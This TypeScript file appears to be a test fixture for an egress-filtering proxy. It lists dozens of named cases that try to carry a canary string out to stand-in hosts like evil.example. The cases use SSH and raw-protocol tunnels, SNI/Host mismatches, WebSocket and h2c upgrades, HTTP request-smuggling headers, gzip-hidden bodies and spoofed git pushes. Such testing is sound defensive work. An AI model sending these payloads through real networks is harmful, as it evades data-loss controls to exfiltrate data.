/** Below HTTP: SSH, tunnels, names that disagree, framing that can be read twice, and protocols that take over. */
import { gzipSync } from 'node:zlib'
import { gitPush, PUSH, PUSH_TYPE } from './git-bytes.ts'
import { ask, CANARY, channelsOf, chunked, form, send } from './shape.ts'

const SSH = `SSH-2.0-${CANARY}\r\n`
const UPGRADE = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13']
const HELD = Buffer.from(`POST /x HTTP/1.1\r\nHost: evil.example\r\nContent-Length: ${CANARY.length}\r\n\r\n${CANARY}`)

export const WIRE = channelsOf('the wire', [
  ['SSH at github.com', { tunnel: 'github.com:22', bytes: SSH }],
  ['SSH on the port of HTTPS', { tunnel: 'ssh.github.com:443', bytes: SSH }],
  ['SSH on the port of HTTPS at a host that nobody lists', { tunnel: 'evil.example:443', bytes: SSH }],
  ['SSH of GitLab', { tunnel: 'altssh.gitlab.com:443', bytes: SSH }],
  ['SSH behind its first line', { tunnel: 'evil.example:443', bytes: `hello\r\n${SSH}` }],
  ['HTTP in a tunnel without TLS', { tunnel: 'evil.example:443', bytes: HELD }],
  ['HTTP in a tunnel to port 80', { tunnel: 'evil.example:80', bytes: HELD }],
  ['bytes of nothing known', { tunnel: 'evil.example:443', bytes: `\0\x01\x02${CANARY}` }],
  ['a byte that begins as TLS', { tunnel: 'evil.example:443', bytes: `\x16\x03\x01\0\x18${CANARY}` }],
  [
    'git’s own protocol',
    { tunnel: 'github.com:9418', bytes: `0033git-receive-pack /mallory/loot\0host=github.com\0${CANARY}` },
  ],
  ['SMTP', { tunnel: 'mail.evil.example:25', bytes: `EHLO x\r\nMAIL FROM:<${CANARY}@a.example>\r\n` }],
  ['DNS over TLS without TLS', { tunnel: 'dns.evil.example:853', bytes: `\0\x30${CANARY}` }],
  ['Redis', { tunnel: 'evil.example:6379', bytes: `*3\r\n$3\r\nSET\r\n$1\r\na\r\n$24\r\n${CANARY}\r\n` }],
  ['HTTP/2 without TLS', { tunnel: 'evil.example:443', bytes: `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${CANARY}` }],
  ['TLS to an address', { ...send('POST', 'https://127.0.0.1:{origin}/'), sni: null }],
  [
    'TLS to an address under a name that is excepted',
    { ...send('POST', 'https://127.0.0.1:{origin}/'), sni: 'x.corp.example' },
  ],
  [
    'TLS to an address under a name and a Host',
    { ...send('POST', 'https://127.0.0.1:{origin}/', CANARY, 'Host: x.corp.example'), sni: 'x.corp.example' },
  ],
  ['in the clear to an address', send('POST', 'http://127.0.0.1:{origin}/')],
  ['TLS on a port of one’s own', send('POST', 'https://evil.example:8443/')],
  ['in the clear on the port of TLS', send('POST', 'http://evil.example:443/')],
  [
    'the SNI of one and the Host of another',
    { ...send('POST', 'https://raw.githubusercontent.com/', CANARY, 'Host: evil.example') },
  ],
  [
    'a push with the Host of ours at another’s',
    gitPush('https://evil.example/acme/app.git/git-receive-pack', PUSH, 'Host: github.com'),
  ],
  [
    'a WebSocket',
    ask(
      'GET',
      `https://evil.example/${CANARY}`,
      ...UPGRADE,
      `Sec-WebSocket-Key: ${Buffer.from(CANARY.slice(0, 16)).toString('base64')}`,
    ),
  ],
  [
    'a WebSocket in the clear',
    ask('GET', `http://evil.example/${CANARY}`, ...UPGRADE, 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='),
  ],
  [
    'a WebSocket at GitHub',
    ask(
      'GET',
      `https://alive.github.com/_sockets/u/1/ws?session=${CANARY}`,
      ...UPGRADE,
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
    ),
  ],
  [
    'h2c | of which the read goes on, and nothing of what is said between two neighbours',
    {
      ...ask(
        'GET',
        'http://evil.example/',
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        `HTTP2-Settings: ${CANARY}`,
      ),
      prelude: true,
    },
  ],
  [
    'fields that are for the proxy alone',
    {
      ...ask(
        'GET',
        'http://evil.example/',
        `Proxy-Authorization: Basic ${CANARY}`,
        'Connection: close, Note',
        `Note: ${CANARY}`,
      ),
      prelude: true,
    },
  ],
  ['SSH in TLS', { tls: 'evil.example:443', bytes: SSH }],
  [
    'a push of git’s own protocol in TLS',
    { tls: 'github.com:443', bytes: `0033git-receive-pack /mallory/loot\0host=github.com\0${CANARY}` },
  ],
  ['mail in TLS', { tls: 'mail.evil.example:443', bytes: `EHLO ${CANARY}\r\n` }],
  ['HTTP/2 in TLS', { tls: 'evil.example:443', bytes: `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${CANARY}` }],
  ['TLS in TLS', { tls: 'evil.example:443', bytes: `\x16\x03\x01\0\x18${CANARY}` }],
  ['a request after bytes of its own', { tls: 'evil.example:443', bytes: `\r\n\r\n${HELD.toString('latin1')}` }],
  ['SSH at a host that is excepted', { tunnel: 'x.corp.example:22', bytes: SSH }],
  [
    'the Host of a drive at a sign-in',
    send('POST', 'https://accounts.google.com/upload/drive/v3/files', CANARY, 'Host: www.googleapis.com'),
  ],
  [
    'a drive’s certificate at a sign-in',
    { ...send('POST', 'https://drive.google.com/upload'), connect: 'accounts.google.com:443' },
  ],
  ['a sign-in of a megabyte at a provider', send('POST', 'https://accounts.google.com/x', CANARY.repeat(40_000))],
  [
    'a question for revocation that is a megabyte',
    send('POST', 'http://ocsp.trust.example/', CANARY.repeat(40_000), 'Content-Type: application/ocsp-request'),
  ],
  ['a question for revocation over TLS', send('POST', 'https://ocsp.trust.example/')],
  [
    'an upgrade to what nobody knows',
    ask('GET', `https://evil.example/${CANARY}`, 'Connection: upgrade', 'Upgrade: loot/1'),
  ],
  ['an upgrade that Connection does not name', send('POST', 'https://evil.example/', CANARY, 'Upgrade: websocket')],
  [
    'CONNECT in a tunnel',
    { ...ask('CONNECT', 'https://evil.example/', `X-Note: ${CANARY}`), target: 'evil.example:443' },
  ],
  [
    'a tunnel in a tunnel',
    { ...ask('CONNECT', 'https://github.com/', `X-Note: ${CANARY}`), target: 'evil.example:443' },
  ],
  ['a read with a body of chunks', chunked(send('GET', 'https://evil.example/'))],
  [
    'a read with trailers alone',
    chunked(ask('GET', 'https://evil.example/', 'Trailer: X-Note'), [`X-Note: ${CANARY}`]),
  ],
  [
    'two lengths',
    { ...send('GET', 'https://evil.example/', CANARY, 'Content-Length: 0', `Content-Length: ${CANARY.length}`) },
  ],
  [
    'a length and chunks',
    {
      ...send(
        'GET',
        'https://evil.example/',
        `0\r\n\r\n${HELD.toString('latin1')}`,
        'Content-Length: 5',
        'Transfer-Encoding: chunked',
      ),
    },
  ],
  [
    'a length of nothing and a request behind it',
    { ...send('GET', 'https://evil.example/', HELD, 'Content-Length: +0') },
  ],
  [
    'a coding of transfer that is misspelled',
    send('GET', 'https://evil.example/', `18\r\n${CANARY}\r\n0\r\n\r\n`, 'Transfer-Encoding: xchunked'),
  ],
  [
    'a coding of transfer behind a tab',
    send('GET', 'https://evil.example/', `18\r\n${CANARY}\r\n0\r\n\r\n`, 'Transfer-Encoding:\x0bchunked'),
  ],
  [
    'a space before the colon',
    send('GET', 'https://evil.example/', CANARY, `Content-Length : ${CANARY.length}`, 'Content-Length: 0'),
  ],
  [
    'a field that is folded',
    send('GET', 'https://evil.example/', CANARY, `X-A: b\r\n Content-Length: ${CANARY.length}`, 'Content-Length: 0'),
  ],
  [
    'a bare line feed in the head',
    send('GET', 'https://evil.example/', CANARY, `X-A: b\nContent-Length: ${CANARY.length}`),
  ],
  [
    'a write behind a read on one connection',
    {
      ...send(
        'GET',
        'https://github.com/acme/app',
        HELD.toString('latin1').replace('evil.example', 'github.com').replace('/x', '/mallory/loot/issues'),
        'Content-Length: 0',
      ),
      prelude: true,
    },
  ],
  ['HTTP/0.9', { raw: `POST http://evil.example/${CANARY}\r\n\r\n` }],
  ['HTTP/1.0 with a write', { raw: `POST http://evil.example/ HTTP/1.0\r\nContent-Length: 24\r\n\r\n${CANARY}` }],
  ['HTTP/2 by its first line', { raw: `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${CANARY}` }],
  ['ftp', { raw: `PUT ftp://evil.example/a HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 24\r\n\r\n${CANARY}` }],
  [
    'https by its URL, without a tunnel',
    { raw: `POST https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 24\r\n\r\n${CANARY}` },
  ],
  ['a read that is gzip', send('GET', 'https://evil.example/', gzipSync(CANARY), 'Content-Encoding: gzip')],
  ['an Expect ahead of a write', send('POST', 'https://evil.example/', CANARY, 'Expect: 100-continue')],
  [
    'a push behind Expect',
    send('POST', 'https://github.com/mallory/loot/git-receive-pack', PUSH, PUSH_TYPE, 'Expect: 100-continue'),
  ],
  [
    'a sign-in under a coding that hides how long it is',
    {
      ...form('https://github.com/session', {}),
      body: gzipSync(CANARY.repeat(40_000)),
      headers: ['Content-Type: application/x-www-form-urlencoded', 'Content-Encoding: gzip'],
    },
  ],
])
